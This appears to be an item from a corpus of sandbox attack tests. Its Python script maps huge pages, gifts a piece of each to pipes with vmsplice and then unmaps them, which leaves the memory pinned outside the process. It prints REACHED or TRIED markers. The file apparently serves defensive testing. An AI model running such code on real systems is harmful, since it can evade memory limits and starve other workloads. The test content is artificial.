"""Lends a piece of each huge page to a pipe, and lets go of the page, which stays."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import ctypes, os

libc, page = ctypes.CDLL(None), 2 << 20
libc.mmap.restype = ctypes.c_void_p
numbers = [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *numbers]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
pieces, pipes = 0, []
for _ in range(4):
    pipes.append(os.pipe())
    os.set_blocking(pipes[-1][1], False)
    block = libc.mmap(None, 17 * page, 3, 0x22, -1, 0)
    first = -(-block // page) * page
    libc.madvise(first, 16 * page, 14)
    for at in range(first, first + 16 * page, page):
        ctypes.memset(at, 1, page)
        piece = (ctypes.c_size_t * 2)(at, 4096)
        pieces += libc.vmsplice(pipes[-1][1], piece, 1, 2) == 4096
    libc.munmap(block, 17 * page)
print("REACHED" if pieces else "lent", pieces, "pieces")
print("TRIED")
"""
    },
    tried=True,
)
